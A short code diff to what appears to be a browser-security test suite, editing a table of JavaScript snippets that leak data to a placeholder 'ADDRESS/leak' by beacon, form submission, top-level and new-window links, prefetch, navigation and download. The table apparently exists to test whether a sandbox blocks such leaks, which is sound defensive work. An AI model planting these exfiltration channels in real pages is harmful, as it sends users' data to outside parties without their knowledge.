@@ -51,12 +51,13 @@ ESCAPES = {
 SILENT = {
     "dialog": "alert('leak')",
     "beacon": "navigator.sendBeacon('ADDRESS/leak')",
-    "form": "made('form', { action: 'ADDRESS/leak', method: 'post' }).submit()",
+    "form": "made('form', { action: 'ADDRESS/leak', method: 'post' }).requestSubmit()",
     "form in the top": "made('form', { action: 'ADDRESS/leak', target: '_top' }).submit()",
     "link in the top": "made('a', { href: 'ADDRESS/leak', target: '_top' }).click()",
     "link in a new page": "made('a', { href: 'ADDRESS/leak', target: '_blank' }).click()",
     "download": "made('a', { href: 'data:text/plain,leak', download: 'leak.txt' }).click()",
     "prefetch": "made('link', { rel: 'prefetch', href: 'ADDRESS/leak' })",
+    "leaving by a form": "made('form', { action: 'ADDRESS/leak', method: 'post' }).submit()",
     "leaving": "location = 'ADDRESS/leak'",
     "leaving for a file": "location = 'data:text/html,leak'",
 }
